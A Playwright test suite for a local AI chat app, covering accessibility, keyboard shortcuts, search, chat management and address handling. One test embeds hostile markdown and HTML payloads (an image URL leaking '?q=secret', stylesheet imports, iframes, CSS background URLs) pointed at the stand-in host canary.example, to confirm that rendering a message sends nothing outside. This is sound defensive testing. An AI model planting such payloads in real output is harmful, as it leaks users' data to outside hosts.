// What a person meets without a model's help: that all can be read and reached, keys that do what they say, and
// that drawing a message asks nobody for anything. A script answers.
import { AxeBuilder } from '@axe-core/playwright';
import type { Locator, Page } from '@playwright/test';

import { composer, expect, Household, lastMessage, say, test, tryPocket } from './household';

const script = {
  answers: [
    { when: 'slow', steps: [{ tok_s: 40 }, { text: 'word '.repeat(5000) }] },
    { when: '', steps: ['echo'] },
  ],
};

const SIZES = [
  { width: 1000, height: 700 },
  { width: 1440, height: 900 },
];
const SECTIONS = ['General', 'Appearance', 'Chat defaults', 'Hardware', 'Privacy', 'Shortcuts', 'About'];

const chats = (page: Page) => page.getByRole('navigation', { name: 'Chats' });
const row = (page: Page, title: string) => chats(page).getByRole('button', { name: title, exact: true });
const searchField = (page: Page) => page.getByRole('searchbox', { name: 'Search chats and messages' });

/** The end of an answer: its figures stand below it. */
async function answered(page: Page): Promise<void> {
  await expect(lastMessage(page)).toContainText('You said');
  await expect(page.getByRole('button', { name: 'Stop the answer' })).toBeHidden();
}

/** A chat of its own with this as its first message. */
async function chatAbout(page: Page, text: string): Promise<void> {
  await page.keyboard.press('Control+n');
  await expect(page.getByText('What shall we talk about?')).toBeVisible();
  await say(page, text);
  await answered(page);
}

/** Presses Tab until it has the focus. */
async function tabTo(page: Page, target: Locator): Promise<void> {
  await expect(target).toBeVisible();
  for (let presses = 0; presses < 40; presses += 1) {
    if (await target.evaluate((element) => element === document.activeElement)) return;
    await page.keyboard.press('Tab');
  }
  throw new Error(`Tab does not reach ${target}`);
}

for (const size of SIZES) {
  for (const theme of ['light', 'dark'] as const) {
    test(`nobody is kept out at ${size.width} × ${size.height}, ${theme}`, async ({ page, open }) => {
      await page.setViewportSize(size);
      // Motion would be measured half-way, when words are still faint.
      await page.emulateMedia({ colorScheme: theme, reducedMotion: 'reduce' });
      const sound = async (where: string) => {
        const { violations } = await new AxeBuilder({ page }).analyze();
        const told = violations.flatMap(({ id, nodes }) => nodes.map((node) => `${id}: ${node.html}`));
        expect.soft(told, where).toEqual([]);
      };

      await open(script);
      await expect(page.locator('html')).toHaveAttribute('data-theme', theme);
      await expect(page.getByRole('button', { name: /Try Pocket/ })).toBeEnabled();
      await sound('start');
      await tryPocket(page);
      await sound('new chat');
      await say(page, 'hello');
      await answered(page);
      await sound('chat');
      await page.keyboard.press('Control+i');
      await expect(page.getByText('Temperature')).toBeVisible();
      await sound('inspector');
      await page.keyboard.press('Control+i');
      await page.keyboard.press('Control+l');
      await expect(page.getByPlaceholder('Search models')).toBeVisible();
      await sound('model picker');
      await page.keyboard.press('Escape');
      await page.keyboard.press('Control+k');
      await expect(page.getByRole('combobox')).toBeFocused();
      await sound('palette');
      await page.keyboard.press('Escape');
      await row(page, 'hello').focus();
      await page.keyboard.press('Delete');
      await expect(page.getByText('“hello” went to the trash')).toBeVisible();
      await page.getByRole('button', { name: 'Trash', exact: true }).click();
      await expect(page.getByRole('button', { name: 'Empty trash' })).toBeVisible();
      await sound('trash and toast');
      await page.getByRole('link', { name: 'Models' }).click();
      await expect(page.getByRole('heading', { name: 'Models', level: 1 })).toBeVisible();
      await sound('models, discover');
      await page.getByRole('link', { name: 'Mine' }).click();
      await expect(page.getByRole('heading', { name: 'On this machine' })).toBeVisible();
      await sound('models, mine');
      await page.getByRole('link', { name: 'Downloads' }).click();
      await expect(page.getByText('Nothing was downloaded yet')).toBeVisible();
      await sound('models, downloads');
      await page.getByRole('link', { name: 'Server' }).click();
      await expect(page.getByRole('heading', { name: 'Local server', level: 1 })).toBeVisible();
      await sound('server');
      await page.getByRole('link', { name: 'Settings' }).click();
      for (const section of SECTIONS) {
        await page.getByRole('link', { name: section, exact: true }).click();
        await expect(page.getByRole('heading', { name: section, level: 2 })).toBeVisible();
        await sound(`settings, ${section}`);
      }
    });

    test(`a toast leaves the composer free at ${size.width} × ${size.height}, ${theme}`, async ({
      page,
      open,
    }) => {
      await page.setViewportSize(size);
      await page.emulateMedia({ colorScheme: theme });
      await open(script);
      await tryPocket(page);
      await say(page, 'hello');
      await answered(page);
      await chatAbout(page, 'another');
      await say(page, 'slow');
      const stop = page.getByRole('button', { name: 'Stop the answer' });
      await expect(stop).toBeVisible();
      await row(page, 'hello').focus();
      await page.keyboard.press('Delete');
      const toast = page.locator('[data-sonner-toast]');
      await expect(toast.getByRole('button', { name: 'Undo' })).toBeVisible();
      const apart = async () => {
        const above = await toast.boundingBox();
        const below = await page
          .locator('form')
          .filter({ has: composer(page) })
          .boundingBox();
        expect(above!.y + above!.height, 'the toast ends above the composer').toBeLessThan(below!.y);
      };
      // Under the pointer it stays; the rest is done by keys.
      await toast.hover();
      await apart();
      await page.keyboard.press('Escape');
      await expect(stop).toBeHidden();
      await page.keyboard.press('Control+i');
      await expect(page.getByText('Temperature')).toBeVisible();
      await apart();
    });
  }
}

test('from the first start to an answer without a mouse', async ({ page, open }) => {
  await open(script);
  await tabTo(page, page.getByRole('button', { name: /Try Pocket/ }));
  await page.keyboard.press('Enter');
  await expect(composer(page), 'who chose to chat can write').toBeFocused();
  await page.keyboard.type('hello there');
  await page.keyboard.press('Enter');
  await answered(page);
  for (const name of ['Models', 'Settings']) {
    const link = page.getByRole('link', { name, exact: true });
    await tabTo(page, link);
    await page.keyboard.press('Enter');
    await expect(page.getByRole('heading', { name, level: 1 })).toBeVisible();
    await expect(link, 'the way on begins where one was').toBeFocused();
  }
});

test('every key does what the settings say', async ({ page, open }) => {
  await open(script);
  await tryPocket(page);
  await say(page, 'apples');
  await answered(page);
  await chatAbout(page, 'pears');

  await page.keyboard.press('Control+k');
  await page.keyboard.type('apples');
  await expect(page.getByRole('option', { name: 'apples' })).toBeVisible();
  await page.keyboard.press('Enter');
  await expect(row(page, 'apples')).toHaveAttribute('aria-current', 'page');
  await expect(lastMessage(page)).toContainText('apples');

  await page.keyboard.press('Control+b');
  await expect(chats(page)).toBeHidden();
  await page.keyboard.press('Control+b');
  await expect(chats(page)).toBeVisible();

  await page.keyboard.press('Control+i');
  await expect(page.getByText('Temperature')).toBeVisible();
  await page.keyboard.press('Control+i');
  await expect(page.getByText('Temperature')).toBeHidden();

  await page.keyboard.press('Control+l');
  await expect(page.getByPlaceholder('Search models')).toBeFocused();
  await page.keyboard.press('Escape');
  await expect(page.getByPlaceholder('Search models')).toBeHidden();

  await page.keyboard.press('Control+n');
  await expect(page.getByText('What shall we talk about?')).toBeVisible();
  await expect(composer(page)).toBeFocused();

  await page.keyboard.press('Control+,');
  await expect(page.getByRole('heading', { name: 'General' })).toBeVisible();
});

test('searching begins on any page, and with the chats put away', async ({ page, open }) => {
  await open(script);
  await tryPocket(page);
  await say(page, 'apples');
  await answered(page);
  await page.keyboard.press('Control+b');
  await expect(chats(page)).toBeHidden();
  await page.keyboard.press('Control+Shift+f');
  await expect(searchField(page)).toBeFocused();
  await page.keyboard.press('Escape');

  await page.getByRole('link', { name: 'Models' }).click();
  await page.keyboard.press('Control+Shift+f');
  await expect(searchField(page)).toBeFocused();
  await expect(row(page, 'apples'), 'back in the chat that was open').toHaveAttribute('aria-current', 'page');
  await composer(page).focus();
  await page.keyboard.press('Control+Shift+f');
  await expect(searchField(page), 'asked for again').toBeFocused();

  await page.setViewportSize({ width: 800, height: 700 });
  await page.keyboard.press('Escape');
  await page.getByRole('link', { name: 'Models' }).click();
  await page.keyboard.press('Control+Shift+f');
  await expect(searchField(page), 'over the page where there is no room').toBeFocused();
});

test('search finds the words of messages', async ({ page, open }) => {
  await open(script);
  await tryPocket(page);
  await say(page, 'fruit');
  await answered(page);
  await say(page, 'The pomegranate ripens late');
  await expect(lastMessage(page)).toContainText('pomegranate');
  await answered(page);
  await chatAbout(page, 'bread');

  await page.keyboard.press('Control+Shift+f');
  await searchField(page).fill('pomegranate');
  await expect(row(page, 'bread')).toBeHidden();
  await expect(row(page, 'fruit')).toBeVisible();
  await searchField(page).fill('xylophone');
  await expect(page.getByText('Nothing found for “xylophone”')).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(row(page, 'bread')).toBeVisible();
});

test('the choice of a theme outlives the page', async ({ page, open }) => {
  await open(script);
  await tryPocket(page);
  await expect(page.locator('html')).toHaveAttribute('data-theme', 'light');
  await page.getByRole('link', { name: 'Settings' }).click();
  await page.getByRole('link', { name: 'Appearance' }).click();
  const saved = page.waitForResponse((response) => response.url().endsWith('settings.save'));
  await page.getByRole('radio', { name: 'Dark' }).click();
  await saved;
  await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
  await page.reload();
  await expect(page.getByRole('radio', { name: 'Dark' })).toBeChecked();
  await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
});

test('a chat is renamed, deleted and taken back', async ({ page, open }) => {
  const household = await open(script);
  await tryPocket(page);
  await say(page, 'apples');
  await answered(page);

  await row(page, 'apples').focus();
  await page.keyboard.press('F2');
  await page.getByRole('textbox', { name: 'Title of the chat' }).fill('An orchard');
  await page.keyboard.press('Enter');
  await expect(row(page, 'An orchard')).toBeVisible();

  await row(page, 'An orchard').focus();
  await page.keyboard.press('Delete');
  await expect(row(page, 'An orchard')).toBeHidden();
  await page.getByRole('button', { name: 'Undo' }).click();
  await expect(row(page, 'An orchard')).toBeVisible();
  await expect(lastMessage(page), 'it is open again').toContainText('apples');

  await household.end();
  await page.goto('about:blank');
  await page.goto(await household.start());
  await expect(row(page, 'An orchard')).toBeVisible();
});

test('a temporary chat says so and is gone after a restart', async ({ page, open }) => {
  const household = await open(script);
  await tryPocket(page);
  await say(page, 'apples');
  await answered(page);
  await page.keyboard.press('Control+Shift+n');
  await expect(page.getByRole('heading', { name: 'A chat that leaves no trace' })).toBeVisible();
  await expect(page.getByText('Temporary: nothing of this is saved.')).toBeVisible();
  await say(page, 'a secret');
  await answered(page);
  await expect(row(page, 'Temporary: a secret'), 'the list marks it too').toBeVisible();
  await row(page, 'Temporary: a secret').focus();
  await page.keyboard.press('Delete');
  await expect(page.getByRole('alertdialog', { name: 'Delete “a secret” for good?' })).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(page.getByRole('alertdialog')).toBeHidden();
  await expect(row(page, 'Temporary: a secret'), 'nobody said yes').toBeVisible();

  await household.end();
  await page.goto('about:blank');
  await page.goto(await household.start());
  await expect(row(page, 'apples')).toBeVisible();
  await expect(page.getByText('a secret')).toHaveCount(0);
});

test('drawing a message asks nobody for anything', async ({ page, open }) => {
  const hostile = [
    'Here it is: [a link](https://canary.example/page), ![a picture](https://canary.example/leak?q=secret)',
    '<img src="https://canary.example/b.png" srcset="https://canary.example/c.png 2x">',
    '<link rel="stylesheet" href="https://canary.example/x.css"><link rel="dns-prefetch" href="//canary.example">',
    '<style>@import url(https://canary.example/y.css);</style>',
    '<div style="background:url(https://canary.example/z)">a box</div>',
    '<iframe src="https://canary.example/"></iframe><video poster="https://canary.example/p.png"></video>',
    '$\\includegraphics{https://canary.example/f.png}$',
    'The end.',
  ].join('\n\n');
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  // What only the policy of the page stopped got further than it should have.
  await page.addInitScript(() => {
    const stopped: string[] = [];
    Object.assign(window, { stopped });
    document.addEventListener('securitypolicyviolation', ({ blockedURI }) => stopped.push(blockedURI));
  });

  await open({ answers: [{ when: '', steps: [{ text: hostile }] }] });
  await tryPocket(page);
  await say(page, hostile);
  await expect(lastMessage(page)).toContainText('The end.');
  await expect(page.getByRole('button', { name: 'Stop the answer' })).toBeHidden();
  const link = lastMessage(page).getByRole('link', { name: 'a link' });
  await expect(link, 'the message was drawn').toBeVisible();
  await link.hover();
  await page.reload();
  await expect(lastMessage(page)).toContainText('The end.');

  expect(asked.length, 'the test sees requests').toBeGreaterThan(5);
  const own = new URL(page.url()).host;
  const elsewhere = asked.filter((url) => /^(https?|wss?):/.test(url) && new URL(url).host !== own);
  expect(elsewhere).toEqual([]);
  const stopped = await page.evaluate(() => (window as unknown as { stopped: string[] }).stopped);
  expect(stopped.filter((address) => address.includes('canary'))).toEqual([]);
});

test('a browser that denies storage opens the application all the same', async ({ page, open }) => {
  await page.addInitScript(() => {
    for (const name of ['localStorage', 'sessionStorage']) {
      Object.defineProperty(window, name, {
        get() {
          throw new DOMException('Access is denied for this document.', 'SecurityError');
        },
      });
    }
  });
  await open(script);
  await tryPocket(page);
  await say(page, 'hello');
  await answered(page);
});

test('an address opens the application once, and the next one is printed', async ({ page, browser }) => {
  const household = new Household();
  try {
    const first = await household.start();
    await page.goto(first);
    await expect(page.getByText('Talk to a model on your own machine.')).toBeVisible();
    await page.reload();
    await expect(page.getByText('Talk to a model on your own machine.'), 'a reload stays in').toBeVisible();

    const stranger = await (await browser.newContext()).newPage();
    await stranger.goto(first);
    await expect(stranger.getByText('Open the address that Inglenook printed last.')).toBeVisible();
    await expect.poll(() => household.address(), 'the next address').not.toBe(first);
    await stranger.goto('about:blank');
    await stranger.goto(household.address()!);
    await expect(stranger.getByText('Talk to a model on your own machine.')).toBeVisible();
    await stranger.context().close();
  } finally {
    await household.leave();
  }
});
